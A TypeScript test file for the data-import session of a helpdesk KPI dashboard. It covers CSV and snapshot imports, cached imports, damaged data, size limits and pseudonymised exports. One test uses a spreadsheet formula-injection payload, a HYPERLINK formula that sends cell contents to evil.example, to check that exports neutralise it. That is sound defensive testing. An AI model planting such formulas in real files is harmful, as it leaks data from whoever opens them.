import 'fake-indexeddb/auto';
import {expect, test} from 'vitest';
import {deriveFacts} from '../../core/metrics/facts.ts';
import {generateDemoDataset} from '../../core/metrics/demo-data.ts';
import {statsOf} from '../../core/metrics/kpis.ts';
import {settlementOf} from '../../core/metrics/periods.ts';
import {defaultSettings} from '../../core/settings.ts';
import {keepImport, keptImports, openImportCache} from '../../core/store/imports.ts';
import {kpisOfDataset, openNodeDatabase} from '../worker/node-database.ts';
import {detectImportKind} from './detect.ts';
import type {Progress} from './session.ts';
import {createSession, limits} from './session.ts';

const businessHours = {calendar: defaultSettings.sla.calendar};
const header =
	'Id,Requester,Requester id,Assignee,Group,Subject,Status,Priority,Via,Created at,Solved at,Satisfaction Score,Replies,Reopens,First reply time in minutes,Full resolution time in minutes';
const zendeskCsv = [
	header,
	'101,Dana Reyes,9001,Ana Ruiz,Billing,Charged twice,Solved,High,Mail,2026-03-02 09:15:00,2026-03-02 11:15:00,Good,1,0,30,120',
	'102,Lee Park,9002,Ben Okafor,Support,Login error,Open,Normal,Web form,2026-03-02 10:00:00,,Offered,0,0,,',
	'103,Dana Reyes,9001,Ana Ruiz,Billing,Invoice wrong,Closed,Urgent,Chat,2026-03-03 08:00:00,2026-03-03 09:00:00,Bad,3,1,10,60',
].join('\n');

function file(text: string, lastModified = 1): Blob & {lastModified: number} {
	return Object.assign(new Blob([text]), {lastModified});
}

async function session() {
	return createSession(async () => openNodeDatabase(), {businessHours});
}

test('nothing loaded: an empty summary, no database', async () => {
	const empty = await session();
	const summary = await empty.reload();
	expect(summary).toMatchObject({tickets: 0, firstDay: null, lastDay: null, sources: []});
	expect(summary.options.agent).toEqual([]);
});

test('the demo history loads with its day range and filter values, and its KPIs are those of the metric SQL on the same history', async () => {
	const demo = await session();
	const progress: Progress[] = [];
	await demo.loadDemo({days: 20, ticketsPerDay: 12});
	const summary = await demo.reload(step => progress.push(step));
	const dataset = generateDemoDataset({days: 20, ticketsPerDay: 12});
	expect(summary.tickets).toBe(dataset.tickets.length);
	expect(summary.lastDay).toBe('2026-06-30');
	// Days settle after the 90th percentile of full resolution time, from the loaded tickets.
	const facts = deriveFacts(dataset, {businessHours});
	const p90 = statsOf(facts.tickets.flatMap(ticket => (ticket.fullResolutionMs === null ? [] : [ticket.fullResolutionMs]))).p90!;
	expect(summary.settlement).toEqual(settlementOf('2026-06-30', p90));
	expect(summary.settlement!.settleDays).toBeGreaterThan(0);
	expect(summary.options.agent).toEqual([...new Set(dataset.tickets.flatMap(ticket => (ticket.agent ? [ticket.agent] : [])))].sort());
	expect(progress.length).toBeGreaterThan(0);
	const expected = await kpisOfDataset(dataset, {from: '2026-06-20', to: '2026-06-30'}, {businessHours});
	const actual = demo.kpis({from: '2026-06-20', to: '2026-06-30'});
	expect(actual[0]!.tickets).toBe(expected[0]!.tickets);
	expect(actual[0]!.escalationRate).toEqual(expected[0]!.escalationRate);
	expect(actual[0]!.durations.firstReplyBusiness.median).toBeCloseTo(expected[0]!.durations.firstReplyBusiness.median!, 6);
});

test('a Zendesk CSV streams in with progress; importing it again changes nothing', async () => {
	const imports = await session();
	const progress: Progress[] = [];
	const first = await imports.importFile('tickets.csv', file(zendeskCsv), {}, step => progress.push(step));
	expect(first).toMatchObject({ok: true, replaced: false, source: {kind: 'zendesk', rows: 3, tickets: 3}});
	expect(progress).toContainEqual({label: 'Reading tickets.csv', done: zendeskCsv.length, total: zendeskCsv.length});
	expect(progress.at(-1)).toEqual({label: 'Imported tickets.csv', done: 1, total: 1});
	await imports.reload();
	const before = imports.kpis();

	// The same file, and the same rows under another name: merged by key.
	expect(await imports.importFile('tickets.csv', file(zendeskCsv))).toMatchObject({ok: true, replaced: true});
	expect(await imports.importFile('copy.csv', file(zendeskCsv, 2))).toMatchObject({ok: true, replaced: false});
	const again = await imports.reload();
	expect(again.tickets).toBe(3);
	expect(imports.kpis()).toEqual(before);
	expect(before[0]!.csat).toEqual({numerator: 1, denominator: 2, value: 0.5});
});

test('a file with a bad row is refused whole, with the line number', async () => {
	const imports = await session();
	const broken = `${zendeskCsv}\n104,Kim Lee,9003,Ana Ruiz,Billing,Refund,Solved,High,Mail,not a date,,,,,,`;
	const outcome = await imports.importFile('broken.csv', file(broken));
	expect(outcome.ok).toBe(false);
	if (outcome.ok) {
		return;
	}

	expect(outcome.kind).toBe('zendesk');
	expect(outcome.issues[0]).toMatchObject({line: 5});
	expect(outcome.summary).toMatch(/nothing imported/);
	expect(await imports.sources()).toEqual([]);
});

test('unknown files and broken JSON are refused with a reason', async () => {
	const imports = await session();
	const unknown = await imports.importFile('notes.csv', file('alpha,beta\n1,2'));
	expect(unknown).toMatchObject({ok: false, kind: undefined});
	const json = await imports.importFile('snap.json', file('{"format": "defuse-snapshot", '));
	expect(json).toMatchObject({ok: false, kind: 'snapshot', issues: [{line: 0}]});
	const other = await imports.importFile('other.json', file('{"hello": 1}'));
	expect(other.ok ? '' : other.summary).toMatch(/not a Defuse snapshot/);
});

test('an exported snapshot imported in another session gives the same KPIs; with the store it merges without double counting', async () => {
	const producer = await session();
	await producer.loadDemo({days: 14, ticketsPerDay: 10});
	await producer.reload();
	const json = await producer.exportSnapshot();
	const parsed = JSON.parse(json) as {detail: string; texts?: unknown; tickets: Array<{requesterKey: string | null}>};
	expect(parsed.detail).toBe('aggregates');
	expect(parsed.texts).toBeUndefined();
	expect(parsed.tickets.every(ticket => ticket.requesterKey === null || ticket.requesterKey.startsWith('h:'))).toBe(true);

	const consumer = await session();
	const outcome = await consumer.importFile('team.json', file(json));
	expect(outcome).toMatchObject({ok: true, source: {kind: 'snapshot'}});
	await consumer.reload();
	const query = {groupBy: 'week' as const};
	const strip = (rows: ReturnType<typeof producer.kpis>) => rows.map(row => ({...row, churn: null}));
	expect(strip(consumer.kpis(query))).toEqual(strip(producer.kpis(query)));
	expect(consumer.kpis()[0]!.churn).toEqual(producer.kpis()[0]!.churn);

	// The same history also in "this browser's store": each ticket still counts once.
	await consumer.setStoreDataset(generateDemoDataset({days: 14, ticketsPerDay: 10}));
	const merged = await consumer.reload();
	expect(merged.tickets).toBe(producer.kpis()[0]!.tickets);
	expect(consumer.kpis()[0]!.escalationRate).toEqual(producer.kpis()[0]!.escalationRate);
});

test('details exports carry masked text only on request', async () => {
	const producer = await session();
	await producer.loadDemo({days: 7, ticketsPerDay: 5});
	const details = JSON.parse(await producer.exportSnapshot('details')) as {detail: string; texts: Array<{customerText?: string}>};
	expect(details.detail).toBe('details');
	expect(details.texts.length).toBeGreaterThan(0);
});

test('kinds are told apart by name and header', () => {
	expect(detectImportKind('x.json', '')).toBe('snapshot');
	expect(detectImportKind('z.csv', header)).toBe('zendesk');
	expect(detectImportKind('f.csv', '"Ticket ID","Subject","Status","Priority","Source","Created time"')).toBe('freshdesk');
	expect(detectImportKind('s.csv', 'Response ID,Type,Score,Submitted at')).toBe('survey');
	expect(detectImportKind('n.csv', 'a,b')).toBeUndefined();
});

test('without a store of its own (the static site) reading the store says so', async () => {
	const session = createSession(async () => openNodeDatabase());
	await expect(session.readStore()).rejects.toThrow(/no store of its own/);
	session.close();
});

test('imported files come back on the next visit with the same KPIs; removed ones do not; damaged ones are dropped with a reason', async () => {
	const name = `imports-${Math.random()}`;
	const visit = () => createSession(async () => openNodeDatabase(), {businessHours}, {openImports: () => openImportCache({name})});
	const first = visit();
	expect(await first.importFile('tickets.csv', file(zendeskCsv), {})).toMatchObject({ok: true});
	const snapshot = await first.exportSnapshot();
	expect(await first.importFile('team.json', file(snapshot, 2), {})).toMatchObject({ok: true, source: {kind: 'snapshot'}});
	await first.reload();
	const before = first.kpis({groupBy: 'agent'});
	first.close();

	const second = visit();
	const restored = await second.restoreImports();
	expect(restored.problems).toEqual([]);
	expect(restored.sources.map(source => [source.name, source.kind, source.tickets])).toEqual([
		['tickets.csv', 'zendesk', 3],
		['team.json', 'snapshot', 3],
	]);
	// Restoring twice (a second page load in the same worker) adds nothing.
	expect((await second.restoreImports()).sources).toEqual([]);
	await second.reload();
	expect(second.kpis({groupBy: 'agent'})).toEqual(before);
	expect(await second.removeSource(restored.sources[1]!.id)).toBe(true);
	second.close();

	const cache = openImportCache({name});
	expect((await keptImports(cache)).map(entry => entry.id)).toEqual([restored.sources[0]!.id]);
	await keepImport(cache, {
		id: 'snapshot:broken.json:1:1',
		savedAt: Date.now(),
		info: {id: 'snapshot:broken.json:1:1', name: 'broken.json', kind: 'snapshot', rows: 1, tickets: 1, warnings: []},
		data: {snapshot: {format: 'nonsense'}},
	});
	const third = visit();
	const again = await third.restoreImports();
	expect(again.sources.map(source => source.name)).toEqual(['tickets.csv']);
	expect(again.problems).toHaveLength(1);
	expect(again.problems[0]).toMatch(/^broken\.json: not restored, .+ Import it again\.$/);
	expect((await keptImports(cache)).map(entry => entry.id)).toEqual([restored.sources[0]!.id]);
	third.close();
	cache.close();
});

test('a kept snapshot with wrong-typed rows is dropped with a reason on the next visit, and everything else loads', async () => {
	const name = `imports-${Math.random()}`;
	const visit = () => createSession(async () => openNodeDatabase(), {businessHours}, {openImports: () => openImportCache({name})});
	const first = visit();
	expect(await first.importFile('tickets.csv', file(zendeskCsv), {})).toMatchObject({ok: true});
	const snapshot = JSON.parse(await first.exportSnapshot()) as Record<string, unknown>;
	first.close();

	const cache = openImportCache({name});
	const id = 'snapshot:poisoned.json:1:1';
	await keepImport(cache, {
		id,
		savedAt: Date.now(),
		info: {id, name: 'poisoned.json', kind: 'snapshot', rows: 3, tickets: 3, warnings: []},
		data: {snapshot: {...snapshot, escalations: [{ticketKey: null}, 5]}},
	});
	cache.close();

	const second = visit();
	const restored = await second.restoreImports();
	expect(restored.sources.map(source => source.name)).toEqual(['tickets.csv']);
	expect(restored.problems).toEqual([
		expect.stringMatching(/^poisoned\.json: not restored, escalations\[0\]\.ticketKey: expected a non-empty text.+ Import it again\.$/),
	]);
	const summary = await second.reload();
	expect(summary.tickets).toBe(3);
	expect(summary.sources.map(source => [source.name, source.error])).toEqual([['tickets.csv', undefined]]);
	second.close();
});

test('a source that fails to load is listed with its error; everything else still loads; removing it loads cleanly', async () => {
	const imports = await session();
	expect(await imports.importFile('tickets.csv', file(zendeskCsv))).toMatchObject({ok: true});
	// A store whose rows are damaged (as a corrupted browser database would be): it reaches the loader unchecked.
	await imports.setStoreDataset({tickets: [{key: 'zendesk:x:1', helpdesk: 'zendesk'}], events: [], surveys: [], customers: []} as never);
	const summary = await imports.reload();
	expect(summary.tickets).toBe(3);
	const store = summary.sources.find(source => source.id === 'store');
	expect(store?.error).toMatch(/Invalid dataset .*tickets\[0\]\.ticketId/);
	expect(summary.sources.find(source => source.name === 'tickets.csv')?.error).toBeUndefined();
	expect(imports.kpis()[0]!.tickets).toBe(3);

	// Exports leave the failed source out too.
	expect((JSON.parse(await imports.exportSnapshot()) as {tickets: unknown[]}).tickets).toHaveLength(3);
	expect(await imports.removeSource('store')).toBe(true);
	const clean = await imports.reload();
	expect(clean.sources.map(source => source.error)).toEqual([undefined]);
	imports.close();
});

test('CSV bundle and SQLite exports hold pseudonymised customers and spreadsheet-safe cells', async () => {
	const imports = await session();
	// An agent name that a spreadsheet would run as a formula, and customers known by e-mail.
	const hostile = zendeskCsv
		.replaceAll('Ana Ruiz', '"=HYPERLINK(""https://evil.example/?""&A1,""open"")"')
		.replaceAll(',9001,', ',dana@example.com,');
	expect(await imports.importFile('tickets.csv', file(hostile), {host: 'acme.zendesk.com'})).toMatchObject({ok: true});
	await imports.reload();
	// The loaded database itself keeps the raw keys (the dashboard's own queries need nothing else).
	expect(JSON.stringify(imports.kpis({groupBy: 'agent'}))).toMatch(/=HYPERLINK/);

	const zip = new TextDecoder().decode(await imports.exportCsvBundle());
	expect(zip).not.toMatch(/dana@example\.com|zendesk:acme\.zendesk\.com:(email|id):/);
	expect(zip).toMatch(/"'=HYPERLINK\(""https:\/\/evil\.example/);
	expect(zip).not.toMatch(/(^|,)"?=HYPERLINK/m);
	expect(zip).toMatch(/,h:[\da-f]{32},/);

	const sqlite = await openNodeDatabase(await imports.exportSqlite());
	const keys = sqlite.exec('SELECT requester_key FROM ticket_metrics')[0]!.values.map(row => row[0]);
	expect(keys).toHaveLength(3);
	expect(keys.every(key => typeof key === 'string' && /^h:[\da-f]{32}$/.test(key))).toBe(true);
	expect(new TextDecoder().decode(sqlite.export())).not.toMatch(/dana@example\.com/);
	sqlite.close();
	imports.close();
});

test('beyond what a page holds an import stops at once, naming the limit and the command line', async () => {
	const imports = await session();
	const big = {size: limits.fileBytes + 1, slice: () => new Blob([''])} as unknown as Blob;
	const outcome = await imports.importFile('huge.csv', big);
	expect(outcome).toMatchObject({ok: false, rows: 0});
	expect(!outcome.ok && outcome.summary).toMatch(
		/^huge\.csv is 160 MB: this page holds files up to 160 MB \(about 800,000 tickets\)\. For files this big use the command line.*npx defuse kpis huge\.csv/,
	);
	// Rows past the limit: reading stops there (a small limit stands in for the page's 800,000 rows).
	const small = createSession(async () => openNodeDatabase(), {businessHours}, {limits: {...limits, tickets: 50}});
	const rows = Array.from({length: 55}, (_row, index) => `${index + 1},2026-03-02 09:00,Open`);
	const many = await small.importFile('many.csv', new Blob([`Id,Created at,Status\n${rows.join('\n')}\n`]), {kind: 'zendesk'});
	expect(!many.ok && many.summary).toMatch(
		/many\.csv has more than 50 rows, more than this page can hold\. For files this big use the command line/,
	);
	const fits = await small.importFile('fits.csv', new Blob([`Id,Created at,Status\n${rows.slice(0, 50).join('\n')}\n`]), {kind: 'zendesk'});
	expect(fits).toMatchObject({ok: true, source: {rows: 50, tickets: 50}});
	expect(limits.tickets).toBe(800_000);
});

test('an import above the kept size is held for this visit only, and says so', async () => {
	const small = createSession(async () => openNodeDatabase(), {businessHours}, {limits: {...limits, keptTickets: 2}});
	const rows = ['1,2026-03-02 09:00,Open', '2,2026-03-02 10:00,Open', '3,2026-03-02 11:00,Open'];
	const outcome = await small.importFile('three.csv', new Blob([`Id,Created at,Status\n${rows.join('\n')}\n`]), {kind: 'zendesk'});
	expect(outcome).toMatchObject({ok: true, source: {tickets: 3}});
	expect(outcome.ok && outcome.source.warnings).toContainEqual(
		expect.stringContaining('Not kept for the next visit: above 2 tickets a file is only held while this page is open'),
	);
	expect(limits.keptTickets).toBe(150_000);
});
